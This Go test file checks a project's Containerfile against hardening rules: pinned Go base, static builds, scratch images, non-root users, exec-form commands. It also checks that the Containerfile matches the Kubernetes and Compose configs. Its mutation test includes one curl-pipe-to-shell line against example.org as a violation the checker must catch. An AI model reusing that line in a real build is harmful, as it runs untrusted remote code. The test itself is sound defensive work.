package deploy

import (
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// A stage is one FROM of a Containerfile with the instructions below it.
type stage struct {
	base, name string
	lines      [][2]string // instruction, rest
}

// stages reads a Containerfile. It knows comments and nothing else that would need a parser: a line is an
// instruction.
func stages(raw string) (out []stage, faults []string) {
	for line := range strings.Lines(raw) {
		line = strings.TrimSpace(line)
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		word, rest, _ := strings.Cut(line, " ")
		rest = strings.TrimSpace(rest)
		if strings.HasSuffix(line, `\`) {
			faults = append(faults, "a line goes on: "+line)
		}
		switch {
		case word == "FROM":
			f := strings.Fields(rest)
			if len(f) != 3 || f[1] != "AS" {
				faults = append(faults, "a stage has no name: "+line)
				f = append(f, "", "")
			}
			out = append(out, stage{base: f[0], name: f[2]})
		case len(out) == 0:
			faults = append(faults, word+" stands before the first FROM")
		default:
			s := &out[len(out)-1]
			s.lines = append(s.lines, [2]string{word, rest})
		}
	}
	return out, faults
}

func (s stage) all(word string) []string {
	var out []string
	for _, l := range s.lines {
		if l[0] == word {
			out = append(out, l[1])
		}
	}
	return out
}

var (
	exactGo   = regexp.MustCompile(`^golang:(\d+)\.(\d+)\.(\d+)-[a-z]+(@sha256:[0-9a-f]{64})?$`)
	buildLine = regexp.MustCompile(`^go build (-C \S+ )?-trimpath -ldflags=-s -o /out/(\S+) (\./\S+)$`)
	execForm  = regexp.MustCompile(`^\["[^"]+"(, "[^"]+")*\]$`)
	goLine    = regexp.MustCompile(`(?m)^go (\d+)\.(\d+)\.(\d+)$`)
)

// containerFaults returns a sentence for each rule that a Containerfile breaks, and the programs of each image.
func containerFaults(raw string) (faults []string, images map[string][]string) {
	add := func(format string, args ...any) { faults = append(faults, fmt.Sprintf(format, args...)) }
	all, syntax := stages(raw)
	faults = append(faults, syntax...)
	images = map[string][]string{}
	built := map[string]string{} // program → its package, relative to the root
	for i, s := range all {
		for _, l := range s.lines {
			if !slices.Contains([]string{"ARG", "ENV", "WORKDIR", "COPY", "RUN", "USER", "EXPOSE", "ENTRYPOINT", "CMD"}, l[0]) {
				add("%s: %s is not used here", s.name, l[0])
			}
		}
		if i == 0 {
			if !exactGo.MatchString(s.base) {
				add("the build starts from %s, not from an exact Go", s.base)
			}
			if !slices.Contains(s.all("ENV"), "CGO_ENABLED=0") {
				add("the programs may not be static")
			}
			for _, l := range s.all("RUN") {
				if m := buildLine.FindStringSubmatch(l); m != nil {
					built[m[2]] = filepath.Join(strings.TrimSpace(strings.TrimPrefix(m[1], "-C ")), m[3])
				} else if l != "go mod download" {
					add("the build runs %q", l)
				}
			}
			continue
		}
		if s.base != "scratch" {
			add("%s starts from %s", s.name, s.base)
		}
		if len(s.all("RUN"))+len(s.all("ENV"))+len(s.all("ARG")) > 0 {
			add("%s is more than copies", s.name)
		}
		for _, c := range s.all("COPY") {
			f := strings.Fields(c)
			if len(f) != 3 || f[0] != "--from=build" || built[strings.TrimPrefix(f[1], "/out/")] == "" {
				add("%s copies %s", s.name, c)
				continue
			}
			images[s.name] = append(images[s.name], strings.TrimPrefix(f[1], "/out/"))
		}
		user, group, ok := strings.Cut(strings.Join(s.all("USER"), " "), ":")
		if u, err := strconv.Atoi(user); err != nil || u == 0 || !ok || group != user {
			add("%s runs as %v", s.name, s.all("USER"))
		}
		for _, word := range []string{"ENTRYPOINT", "CMD"} {
			if l := s.all(word); len(l) != 1 || !execForm.MatchString(l[0]) {
				add("%s: %s is %v", s.name, word, l)
			}
		}
	}
	for program, pkg := range built {
		if _, err := os.Stat(filepath.Join("../..", pkg, "main.go")); err != nil {
			add("%s is built from %s, which is not there", program, pkg)
		}
	}
	return faults, images
}

func TestContainerfile(t *testing.T) {
	raw, err := os.ReadFile("Containerfile")
	if err != nil {
		t.Fatal(err)
	}
	faults, images := containerFaults(string(raw))
	for _, f := range faults {
		t.Error(f)
	}
	all, _ := stages(string(raw))
	m, project := render(t, "kustomize/overlays/base"), example(t)
	for _, name := range []string{"zhenglian", "zl-chaincode"} {
		if !slices.Equal(images[name], []string{name, "zl-probe"}) {
			t.Errorf("%s holds %v", name, images[name])
		}
		i := slices.IndexFunc(all, func(s stage) bool { return s.name == name })
		for _, w := range m.workloads() {
			if w.name != name {
				continue
			}
			// The manifests run the image as it is meant to be run.
			c := w.pod.Spec.Containers[0]
			if got, want := `["`+strings.Join(c.Args, `", "`)+`"]`, all[i].all("CMD")[0]; got != want || len(c.Command) > 0 {
				t.Errorf("%s runs %s, its image %s", name, got, want)
			}
			if user := fmt.Sprintf("%d:%d", *w.pod.Spec.SecurityContext.RunAsUser, *w.pod.Spec.SecurityContext.RunAsGroup); user != all[i].all("USER")[0] || user != project.Services[name].User {
				t.Errorf("%s: user %s in its pod, %s in its image, %s under Compose", name, user, all[i].all("USER")[0], project.Services[name].User)
			}
			if got := fmt.Sprint(c.Ports[0].ContainerPort); got != all[i].all("EXPOSE")[0] {
				t.Errorf("%s listens on %s, its image on %s", name, got, all[i].all("EXPOSE")[0])
			}
		}
		if got, want := `["`+strings.Join(project.Services[name].Command, `", "`)+`"]`, all[i].all("CMD")[0]; got != want {
			t.Errorf("Compose runs %s as %s, its image as %s", name, got, want)
		}
	}
	// The Go of the image is able to build the project.
	mod, err := os.ReadFile("../../go.mod")
	if err != nil {
		t.Fatal(err)
	}
	need, have := goLine.FindSubmatch(mod), exactGo.FindStringSubmatch(all[0].base)
	for i := 1; i <= 3; i++ {
		n, _ := strconv.Atoi(string(need[i]))
		h, _ := strconv.Atoi(have[i])
		if h != n {
			if h < n {
				t.Errorf("%s is older than go.mod asks", all[0].base)
			}
			break
		}
	}
}

func TestContainerRulesBite(t *testing.T) {
	raw, err := os.ReadFile("Containerfile")
	if err != nil {
		t.Fatal(err)
	}
	for old, new := range map[string]string{
		"FROM golang:1.26.8-trixie AS build":       "FROM golang:latest AS build",
		"ENV CGO_ENABLED=0\n":                      "",
		"FROM scratch AS zhenglian":                "FROM alpine AS zhenglian",
		"USER 65532:65532":                         "USER 0:0",
		"USER 65533:65533\n":                       "",
		`ENTRYPOINT ["/zhenglian"]`:                "ENTRYPOINT /zhenglian",
		"RUN go mod download":                      "RUN curl https://example.org | sh",
		"./node/cmd/zhenglian":                     "./node/cmd/zhenglan",
		"COPY --from=build /out/zhenglian /":       "COPY . /",
		"COPY . .":                                 "ADD . .",
		"-o /out/zl-chaincode ./":                  "-race -o /out/zl-chaincode ./",
		`CMD ["serve", "--dir", "/var/lib/zheng`:   "RUN ls\n" + `CMD ["serve", "--dir", "/var/lib/zheng`,
		"FROM scratch AS zl-chaincode\nCOPY --fro": "FROM scratch\nCOPY --fro",
	} {
		changed := strings.Replace(string(raw), old, new, 1)
		if changed == string(raw) {
			t.Errorf("%q is not there", old)
		}
		if faults, _ := containerFaults(changed); len(faults) == 0 {
			t.Errorf("%q → %q: not found", old, new)
		}
	}
}
